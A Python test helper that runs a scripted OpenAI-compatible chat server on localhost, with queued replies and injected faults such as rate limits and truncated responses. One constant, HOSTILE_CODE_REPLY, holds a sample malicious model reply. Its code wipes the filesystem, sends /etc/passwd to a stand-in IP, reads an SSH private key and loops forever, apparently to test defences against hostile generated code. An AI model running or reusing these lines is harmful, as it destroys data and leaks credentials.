"""A scripted OpenAI-compatible chat server for tests: real HTTP on 127.0.0.1, faults on demand.

Use it as a context manager::

    with ScriptedLLMServer(["first reply", Fault("429", retry_after=0.01), "second"]) as srv:
        client = OpenAI(base_url=srv.base_url, api_key="test")
        ...
        srv.requests          # the JSON bodies of every POST /v1/chat/completions
        srv.max_in_flight     # the most chat requests it was handling at once

Replies come from, in order: the queue (strings, `Reply` or `Fault` items, consumed one per chat
request), then `responder(request_json) -> str`, then `rules` (first substring of the last user
message that matches), then `default_reply`.

Run standalone for REPL tests::

    python tests/llm_server.py --port 8765 --script script.json

where script.json is a list of replies, or {"replies": [...], "rules": [{"contains": "...",
"reply": "..."}], "default": "...", "models": ["test-model"]}. A reply item may be a string or an
object {"text": ..., "delay": s} or {"fault": "429"|"500"|"401"|"404"|"slow"|"garbage"|"truncated",
"retry_after": s, "delay": s}.
"""
from __future__ import annotations

import argparse
import json
import sys
import threading
import time
from collections import deque
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Callable, Iterable

FAULT_KINDS = ("429", "500", "401", "404", "400", "slow", "garbage", "truncated")

# A reply a malicious or confused model might send back for an LF-writing prompt.
HOSTILE_CODE_REPLY = '''```python
import os, socket, subprocess
def lf(x):
    os.system("rm -rf / --no-preserve-root")
    socket.create_connection(("203.0.113.1", 80)).sendall(open("/etc/passwd", "rb").read())
    subprocess.run(["sh", "-c", "cat ~/.ssh/id_rsa"])
    while True:
        pass
```'''


@dataclass
class Reply:
    """A successful reply; `delay` seconds before answering (to hold a request in flight)."""
    text: str
    delay: float = 0.0
    finish_reason: str = "stop"


@dataclass
class Fault:
    """An injected failure. kind: 429 (with Retry-After), 500, 401, 404, 400, slow (sleep `delay`
    then reply `text`), garbage (200 with a non-JSON body), truncated (200, JSON cut in half)."""
    kind: str
    retry_after: float | None = None
    delay: float = 5.0
    text: str = "late reply"

    def __post_init__(self):
        if self.kind not in FAULT_KINDS:
            raise ValueError(f"unknown fault {self.kind!r}; choose from {FAULT_KINDS}")


ScriptItem = str | Reply | Fault


def _count_words(text: str) -> int:
    return max(1, len(text.split()))


def _last_user_message(body: dict) -> str:
    for message in reversed(body.get("messages") or []):
        if message.get("role") == "user":
            content = message.get("content")
            return content if isinstance(content, str) else json.dumps(content)
    return ""


def completion_body(text: str, body: dict, finish_reason: str = "stop") -> dict:
    """An OpenAI chat.completion object answering `body` with `text`, usage filled in."""
    prompt_words = sum(_count_words(str(m.get("content", ""))) for m in body.get("messages") or [])
    completion_words = _count_words(text)
    return {
        "id": f"chatcmpl-{time.monotonic_ns()}",
        "object": "chat.completion",
        "created": int(time.time()),
        "model": body.get("model") or "test-model",
        "choices": [{"index": 0, "finish_reason": finish_reason,
                     "message": {"role": "assistant", "content": text}}],
        "usage": {"prompt_tokens": prompt_words, "completion_tokens": completion_words,
                  "total_tokens": prompt_words + completion_words},
    }


class ScriptedLLMServer:
    """OpenAI chat-completions server in a background thread; see the module docstring."""

    def __init__(self, replies: Iterable[ScriptItem] = (), *,
                 responder: Callable[[dict], str] | None = None,
                 rules: Iterable[tuple[str, str]] = (),
                 default_reply: str = "OK",
                 models: Iterable[str] = ("test-model",),
                 reject_response_format: bool = False,
                 port: int = 0):
        self._queue: deque[ScriptItem] = deque(replies)
        self.responder = responder
        self.rules = list(rules)
        self.default_reply = default_reply
        self.models = list(models)
        self.reject_response_format = reject_response_format
        self.requests: list[dict] = []       # chat request bodies, in arrival order
        self.paths: list[str] = []           # every "METHOD /path" received
        self.in_flight = 0
        self.max_in_flight = 0
        self._lock = threading.Lock()
        self._stopping = threading.Event()
        self._port = port
        self._httpd: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    # -- lifecycle -------------------------------------------------------------------------
    def start(self) -> "ScriptedLLMServer":
        handler = type("Handler", (_Handler,), {"scripted": self})
        self._httpd = ThreadingHTTPServer(("127.0.0.1", self._port), handler)
        self._httpd.daemon_threads = True
        self._httpd.block_on_close = False   # never wait on a deliberately slow handler
        self._thread = threading.Thread(target=self._httpd.serve_forever,
                                        kwargs={"poll_interval": 0.05}, daemon=True)
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stopping.set()
        if self._httpd is not None:
            self._httpd.shutdown()
            self._httpd.server_close()
            self._httpd = None

    def __enter__(self) -> "ScriptedLLMServer":
        return self.start()

    def __exit__(self, *exc) -> None:
        self.stop()

    @property
    def port(self) -> int:
        assert self._httpd is not None, "server not started"
        return self._httpd.server_address[1]

    @property
    def base_url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    # -- scripting -------------------------------------------------------------------------
    def push(self, *items: ScriptItem) -> None:
        """Queue replies or faults for the next chat requests."""
        with self._lock:
            self._queue.extend(items)

    def fail_next(self, kind: str, times: int = 1, **fault_options) -> None:
        self.push(*[Fault(kind, **fault_options) for _ in range(times)])

    @property
    def chat_count(self) -> int:
        return len(self.requests)

    def _next_item(self, body: dict) -> ScriptItem:
        with self._lock:
            if self._queue:
                return self._queue.popleft()
        if self.responder is not None:
            return self.responder(body)
        last_user = _last_user_message(body)
        for needle, reply in self.rules:
            if needle in last_user:
                return reply
        return self.default_reply

    def _enter(self, body: dict) -> None:
        with self._lock:
            self.requests.append(body)
            self.in_flight += 1
            self.max_in_flight = max(self.max_in_flight, self.in_flight)

    def _leave(self) -> None:
        with self._lock:
            self.in_flight -= 1

    def sleep(self, seconds: float) -> None:
        self._stopping.wait(seconds)


class _Handler(BaseHTTPRequestHandler):
    scripted: ScriptedLLMServer
    server_version = "ScriptedLLM/1.0"

    def log_message(self, format, *args):  # keep test output clean
        pass

    _counted = False  # this request is in the server's in_flight count

    def _done(self) -> None:
        if self._counted:
            self._counted = False
            self.scripted._leave()

    def _send(self, status: int, payload: bytes, content_type: str = "application/json",
              headers: dict[str, str] | None = None) -> None:
        # Leave the in-flight count before the client can read the answer: else its next request may
        # arrive while this one still counts, and max_in_flight overstates the client's concurrency.
        self._done()
        try:
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(payload)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(payload)
        except (BrokenPipeError, ConnectionResetError):
            pass  # the client gave up (timeout test): nothing to answer

    def _send_json(self, status: int, obj: Any, headers: dict[str, str] | None = None) -> None:
        self._send(status, json.dumps(obj).encode(), headers=headers)

    def _error(self, status: int, message: str, code: str, headers=None) -> None:
        self._send_json(status, {"error": {"message": message, "type": code, "code": code}},
                        headers)

    def do_GET(self):
        self.scripted.paths.append(f"GET {self.path}")
        if self.path.rstrip("/") in ("/v1/models", "/models"):
            data = [{"id": m, "object": "model", "owned_by": "test"} for m in self.scripted.models]
            self._send_json(200, {"object": "list", "data": data})
        else:
            self._error(404, f"no route {self.path}", "not_found")

    def do_POST(self):
        self.scripted.paths.append(f"POST {self.path}")
        length = int(self.headers.get("Content-Length") or 0)
        raw = self.rfile.read(length)
        if self.path.rstrip("/") not in ("/v1/chat/completions", "/chat/completions"):
            self._error(404, f"no route {self.path}", "not_found")
            return
        try:
            body = json.loads(raw or b"{}")
        except json.JSONDecodeError:
            self._error(400, "request body is not JSON", "invalid_request_error")
            return
        scripted = self.scripted
        scripted._enter(body)
        self._counted = True
        try:
            self._answer(body)
        finally:
            self._done()

    def _answer(self, body: dict) -> None:
        scripted = self.scripted
        if scripted.reject_response_format and "response_format" in body:
            self._error(400, "response_format is not supported", "invalid_request_error")
            return
        model = body.get("model")
        if scripted.models and model not in scripted.models:
            self._error(404, f"The model `{model}` does not exist", "model_not_found")
            return
        item = scripted._next_item(body)
        if isinstance(item, Fault):
            self._fault(item, body)
            return
        reply = item if isinstance(item, Reply) else Reply(str(item))
        if reply.delay:
            scripted.sleep(reply.delay)
        self._send_json(200, completion_body(reply.text, body, reply.finish_reason))

    def _fault(self, fault: Fault, body: dict) -> None:
        kind = fault.kind
        if kind == "429":
            headers = {} if fault.retry_after is None else {"Retry-After": str(fault.retry_after)}
            self._error(429, "Rate limit reached", "rate_limit_exceeded", headers)
        elif kind == "500":
            self._error(500, "The server had an error", "server_error")
        elif kind == "401":
            self._error(401, "Incorrect API key provided", "invalid_api_key")
        elif kind == "404":
            self._error(404, f"The model `{body.get('model')}` does not exist", "model_not_found")
        elif kind == "400":
            self._error(400, "Invalid request", "invalid_request_error")
        elif kind == "slow":
            self.scripted.sleep(fault.delay)
            self._send_json(200, completion_body(fault.text, body))
        elif kind == "garbage":
            self._send(200, b"<html><body>502 Bad Gateway \xff\xfe</body></html>", "text/html")
        elif kind == "truncated":
            whole = json.dumps(completion_body("this reply is cut", body)).encode()
            self._send(200, whole[: len(whole) // 2])


def _item_from_json(item: Any) -> ScriptItem:
    if isinstance(item, str):
        return item
    if "fault" in item:
        options = {k: item[k] for k in ("retry_after", "delay", "text") if k in item}
        return Fault(str(item["fault"]), **options)
    return Reply(item["text"], delay=float(item.get("delay", 0.0)))


def server_from_script(script: Any, port: int = 0) -> ScriptedLLMServer:
    """Build a server from a parsed script file (see the module docstring)."""
    if isinstance(script, list):
        script = {"replies": script}
    rules = [(rule["contains"], rule["reply"]) for rule in script.get("rules", [])]
    return ScriptedLLMServer([_item_from_json(i) for i in script.get("replies", [])],
                             rules=rules, default_reply=script.get("default", "OK"),
                             models=script.get("models", []), port=port)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="Scripted OpenAI-compatible chat server")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--script", type=Path, help="JSON script (list of replies, or rules)")
    args = parser.parse_args(argv)
    script = json.loads(args.script.read_text()) if args.script else []
    server = server_from_script(script, port=args.port).start()
    print(f"listening {server.base_url}", flush=True)
    try:
        while True:
            time.sleep(3600)
    except KeyboardInterrupt:
        server.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
